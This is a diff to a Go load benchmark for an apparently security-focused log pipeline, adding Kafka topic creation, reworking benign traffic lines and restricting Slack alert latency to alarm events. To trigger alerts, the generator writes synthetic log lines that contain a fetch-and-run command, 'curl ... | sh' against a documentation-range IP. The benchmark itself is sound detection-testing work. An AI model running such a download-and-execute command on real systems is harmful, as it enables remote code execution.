@@ -111,6 +111,10 @@ func freeAddr() (string, error) {
 // rising offers HTTP ingest load at each rate for one step and measures the pipeline.
 func (b *bench) rising(ctx context.Context) ([]step, error) {
 	raw, verdicts, alerts := b.name("raw"), b.name("verdicts"), b.name("alerts")
+	// The readers below need the topics before the services would create them.
+	if err := b.topics(ctx, raw, verdicts, alerts); err != nil {
+		return nil, err
+	}
 	slack := e2e.NewFakeSlack()
 	defer slack.Close()
 	addr, err := freeAddr()
@@ -194,7 +198,9 @@ func (b *bench) rising(ctx context.Context) ([]step, error) {
 			if isAlarm(s) {
 				fmt.Fprintf(&body, "[%s] 198.51.100.%d lwbad%d executed command 'curl -s http://203.0.113.9/lwb-%d.sh | sh'\n", ts, s%250+1, s, s)
 			} else {
-				fmt.Fprintf(&body, "[%s] 10.20.%d.%d benchuser%02d accessed file '/srv/share/report-lwb-%d.txt'\n", ts, s%7, s%200+1, s%50, s)
+				// Normal traffic: directory listings (a distinct directory per line carries the
+				// token without looking like mass file access to the rules).
+				fmt.Fprintf(&body, "[%s] 10.20.%d.%d benchuser%02d accessed directory '/srv/share/lwb-%d'\n", ts, s%7, s%200+1, s%50, s)
 			}
 			sent.at[s] = now
 			sent.step[s] = st
@@ -305,7 +311,7 @@ func slackLatency(posts []e2e.Post, sent *sentLog, st int) dist {
 	}
 	var d []time.Duration
 	for seq, at := range first {
-		if t, s, ok := sent.get(seq); ok && s == st {
+		if t, s, ok := sent.get(seq); ok && s == st && isAlarm(seq) {
 			d = append(d, at.Sub(t))
 		}
 	}
@@ -322,6 +328,9 @@ type drainResult struct {
 // consume it.
 func (b *bench) drain(ctx context.Context) ([]drainResult, error) {
 	raw := b.name("drain-raw")
+	if err := b.topics(ctx, raw); err != nil {
+		return nil, err
+	}
 	fmt.Fprintf(b.stderr, "pre-filling %s with %d generated events…\n", raw, b.o.drainEvents)
 	p, err := b.start("log-producer-fill", b.bins["log-producer"], "SOURCES=generator", "GENERATOR_RATE=0",
 		"GENERATOR_COUNT="+strconv.Itoa(b.o.drainEvents), "GENERATOR_SEED=7", "TOPIC="+raw, "HTTP_ADDR=127.0.0.1:0")
@@ -380,6 +389,18 @@ func (b *bench) drain(ctx context.Context) ([]drainResult, error) {
 		out = append(out, r)
 	}
 	return out, nil
+}
+
+// topics creates the named topics with 6 partitions, like the services would.
+func (b *bench) topics(ctx context.Context, names ...string) error {
+	specs := make([]kafkax.TopicSpec, len(names))
+	for i, n := range names {
+		specs[i] = kafkax.TopicSpec{Name: n, Partitions: 6, ReplicationFactor: 1}
+	}
+	if err := kafkax.EnsureTopics(ctx, b.cfg, specs...); err != nil {
+		return fmt.Errorf("create topics: %w", err)
+	}
+	return nil
 }
 
 func waitReady(ctx context.Context, c *http.Client, url string, timeout time.Duration) error {
